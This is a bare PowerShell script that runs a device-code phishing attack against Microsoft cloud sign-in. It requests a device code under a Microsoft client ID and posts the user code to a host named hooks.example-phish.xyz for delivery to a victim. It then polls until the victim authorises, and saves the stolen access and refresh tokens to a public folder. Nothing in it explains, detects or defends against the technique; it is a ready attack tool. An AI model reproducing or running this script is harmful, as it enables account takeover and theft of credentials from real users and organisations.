$body = @{ client_id = "d3590ed6-52b3-4102-aeff-aad2292ab01c"; resource = "https://graph.windows.net" }
$code = Invoke-RestMethod -Method Post -Uri "https://login.microsoftonline.com/common/oauth2/devicecode?api-version=1.0" -Body $body
Invoke-RestMethod -Method Post -Uri "https://hooks.example-phish.xyz/notify" -Body @{ user_code = $code.user_code }
while ($true) {
    Start-Sleep -Seconds 5
    $poll = @{ grant_type = "urn:ietf:params:oauth:grant-type:device_code"; code = $code.device_code; client_id = "d3590ed6-52b3-4102-aeff-aad2292ab01c" }
    $tokens = Invoke-RestMethod -Method Post -Uri "https://login.microsoftonline.com/Common/oauth2/token?api-version=1.0" -Body $poll -ErrorAction SilentlyContinue
    if ($tokens) { break }
}
$tokens | ConvertTo-Json | Out-File "C:\Users\Public\t.json"
